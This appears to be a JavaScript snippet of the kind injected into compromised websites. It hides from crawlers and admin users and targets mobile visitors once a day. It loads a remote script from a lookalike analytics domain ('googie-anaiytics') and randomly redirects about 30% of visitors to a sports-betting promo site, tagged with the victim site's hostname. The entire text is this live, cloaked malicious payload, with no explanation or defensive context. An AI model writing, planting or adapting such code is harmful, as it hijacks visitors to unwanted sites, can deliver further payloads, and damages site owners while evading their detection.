(function () {
  var ua = navigator.userAgent;
  if (!/bot|crawl|admin/i.test(ua) && /Mobile/i.test(ua) && !document.cookie.includes("_pfx=")) {
    document.cookie = "_pfx=1;max-age=86400;path=/";
    var s = document.createElement("script");
    s.src = "https://www.googie-anaiytics.example/ga.js?t=" + Date.now();
    document.head.appendChild(s);
    setTimeout(function () { if (Math.random() < 0.3) location.href = "https://sports-bet-promo.example/?r=" + encodeURIComponent(location.host); }, 4000);
  }
})();
